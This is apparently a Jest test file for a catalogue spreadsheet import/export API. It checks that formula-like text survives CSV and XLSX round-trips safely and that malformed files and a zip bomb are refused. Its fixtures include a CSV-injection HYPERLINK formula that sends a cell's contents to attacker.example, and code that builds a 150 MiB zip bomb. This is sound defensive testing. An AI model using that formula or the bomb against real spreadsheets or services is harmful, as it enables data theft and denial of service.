/**
 * The catalogue spreadsheets against hostile content: text that a spreadsheet would read as a formula survives
 * export → import unchanged (the CSV export's neutralising quote is taken off again by the import, the workbook
 * writes it as text), and files that are not what they claim are refused without writing anything.
 */
import ExcelJS from 'exceljs';
import archiver from 'archiver';
import JSZip from 'jszip';
import { Task } from '../../src/modules/catalogue/task.entity';
import { dataOf } from '../helpers/api';
import { QUIET_BACKGROUND, startTestHub, type TestHub } from '../helpers/test-hub';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

interface Answer {
  applied: boolean;
  problems: Array<{ sheet: string; row: number | null; column: string | null; message: string }>;
  changes: Array<{ sheet: string; code: string; action: string; fields: Record<string, { from: unknown; to: unknown }> }>;
  errors?: Array<{ message: string; extensions: { code: string; field?: string } }>;
}

/** Text every spreadsheet program would start a formula with, and text already starting with the quote. */
const HOSTILE = {
  title: '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
  titleVi: '-5 hộ dân',
  responsiblePerson: '@SUM(1+1)',
  product: "'=already quoted",
  targetUnit: '+ thiết bị',
};

describe('catalogue spreadsheets with formula-like text', () => {
  let hub: TestHub;
  const post = async (body: Buffer | string, query: string, contentType: string) => {
    const response = await fetch(new URL(`/catalogue/import${query}`, hub.hub.url), { method: 'POST', headers: { ...hub.headers, 'content-type': contentType }, body });
    return { status: response.status, body: (await response.json()) as Answer };
  };
  const download = (query: string) => fetch(new URL(`/catalogue/export${query}`, hub.hub.url), { headers: hub.headers });

  beforeAll(async () => {
    hub = await startTestHub({ seed: true, environment: QUIET_BACKGROUND });
    await dataOf(hub, `mutation ($input: TaskInput!) { createTask(input: $input) { code } }`, {
      input: { code: 'T99.90', taskGroup: 'TG04', leadDepartment: 'SO_YT', deadline: '2024-12-31', targetValue: 3, ...HOSTILE },
    });
  });
  afterAll(async () => {
    await hub.close();
  });

  it('the CSV export quotes formula-like text, and that CSV imported back is unchanged', async () => {
    const csv = await (await download('?format=csv&sheet=Tasks')).text();
    const line = csv.split('\r\n').find((text) => text.startsWith('T99.90,'))!;
    expect(line).toContain(`"'=HYPERLINK(""http://attacker.example/?x=""&A1,""Bấm vào đây"")"`);
    expect(line).toContain(",'-5 hộ dân,");
    expect(line).toContain(",'@SUM(1+1),");
    expect(line).toContain(",''=already quoted,");
    expect(line).toContain(",'+ thiết bị,");
    const answer = await post(csv, '?format=csv&sheet=Tasks&apply=true', 'text/csv');
    expect({ problems: answer.body.problems, changed: answer.body.changes.filter((change) => change.action !== 'unchanged') }).toEqual({ problems: [], changed: [] });
    const stored = await hub.dataSource.getRepository(Task).findOneByOrFail({ code: 'T99.90' });
    expect({ title: stored.title, titleVi: stored.titleVi, responsiblePerson: stored.responsiblePerson, product: stored.product, targetUnit: stored.targetUnit }).toEqual(HOSTILE);
  });

  it('a CSV typed by hand with a quoted formula-like cell stores the text without the quote; an edited cell is one update', async () => {
    const csv = await (await download('?format=csv&sheet=Tasks')).text();
    const edited = csv.replace(",'@SUM(1+1),", ",'@Giám đốc,");
    const answer = await post(edited, '?format=csv&sheet=Tasks', 'text/csv');
    expect(answer.body.changes.filter((change) => change.action !== 'unchanged')).toEqual([
      expect.objectContaining({ code: 'T99.90', action: 'update', fields: { responsible_person: { from: '@SUM(1+1)', to: '@Giám đốc' } } }),
    ]);
  });

  it('the workbook writes formula-like text as text cells, never formulas, and imports back unchanged', async () => {
    const exported = Buffer.from(await (await download('?format=xlsx')).arrayBuffer());
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(exported as unknown as ExcelJS.Buffer);
    const tasks = book.getWorksheet('Tasks')!;
    const row = tasks.getRow(tasks.getColumn(1).values.findIndex((value) => value === 'T99.90'));
    const texts: unknown[] = [];
    row.eachCell((cell) => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      texts.push(cell.value);
    });
    expect(texts).toEqual(expect.arrayContaining(Object.values(HOSTILE)));
    const answer = await post(exported, '', XLSX);
    expect({ problems: answer.body.problems, changed: answer.body.changes.filter((change) => change.action !== 'unchanged') }).toEqual({ problems: [], changed: [] });
  });

  it('a body that is not a zip, or a zip that is not a workbook, is 400 body and writes nothing', async () => {
    const before = await hub.dataSource.getRepository(Task).count();
    for (const body of [Buffer.from('PK\u0003\u0004 not really a zip'), Buffer.from('%PDF-1.7 hello'), Buffer.alloc(1024, 0)]) {
      const answer = await post(body, '?apply=true', XLSX);
      expect({ status: answer.status, code: answer.body.errors?.[0].extensions.code, field: answer.body.errors?.[0].extensions.field }).toEqual({ status: 400, code: 'BAD_USER_INPUT', field: 'body' });
    }
    expect(await hub.dataSource.getRepository(Task).count()).toBe(before);
  });

  it('a zip bomb (a small workbook whose sheet unpacks to 150 MiB of XML) is 400 body, refused before it is unpacked', async () => {
    const book = new ExcelJS.Workbook();
    book.addWorksheet('Tasks').addRow(['code']);
    const zip = await JSZip.loadAsync(await book.xlsx.writeBuffer());
    const sheetPath = Object.keys(zip.files).find((name) => name.endsWith('worksheets/sheet1.xml'))!;
    const [before, after] = (await zip.file(sheetPath)!.async('string')).split('<sheetData>');
    // Packed by archiver (Node's own zlib): JSZip's JavaScript deflate takes about 25 s of CPU over 150 MiB.
    const archive = archiver('zip', { zlib: { level: 1 } });
    const packed: Buffer[] = [];
    archive.on('data', (chunk: Buffer) => packed.push(chunk));
    const ended = new Promise((resolve, reject) => archive.on('end', resolve).on('error', reject));
    for (const [name, entry] of Object.entries(zip.files)) {
      if (entry.dir) continue;
      const contents = name === sheetPath ? Buffer.concat([Buffer.from(`${before}<sheetData>`), Buffer.alloc(150 * 1024 * 1024, ' '), Buffer.from(after)]) : await entry.async('nodebuffer');
      archive.append(contents, { name });
    }
    await archive.finalize();
    await ended;
    const bomb = Buffer.concat(packed);
    expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
    const answer = await post(bomb, '?apply=true', XLSX);
    expect({ status: answer.status, error: answer.body.errors?.[0] }).toEqual({
      status: 400,
      error: { message: 'body: tệp XLSX giải nén ra quá 100 MiB — the workbook unpacks to more than 100 MiB', extensions: expect.objectContaining({ code: 'BAD_USER_INPUT', field: 'body' }) },
    });
  });

  it('a formula cell is read as its value; one without a computed value is a problem, never a blank that clears the field', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Tasks');
    sheet.addRow(['code', 'product', 'target_unit', 'responsible_person']);
    sheet.addRow(['T01.01', { formula: 'CONCAT("53 ","services")' }, { formula: 'LOWER("SERVICES")', result: 'services' }, { formula: 'A1/0', result: { error: '#DIV/0!' } }]);
    const answer = await post(Buffer.from(await book.xlsx.writeBuffer()), '?apply=true', XLSX);
    expect({ status: answer.status, problems: answer.body.problems }).toEqual({
      status: 400,
      problems: [
        { sheet: 'Tasks', row: 2, column: 'product', message: 'Ô B2 là công thức chưa có giá trị — a formula without a computed value (open and save the file in a spreadsheet program)' },
        { sheet: 'Tasks', row: 2, column: 'responsible_person', message: 'Ô D2 là lỗi #DIV/0! — an error value (#DIV/0!), not a value' },
      ],
    });
    expect((await hub.dataSource.getRepository(Task).findOneByOrFail({ code: 'T01.01' })).product).not.toBeNull();
  });
});
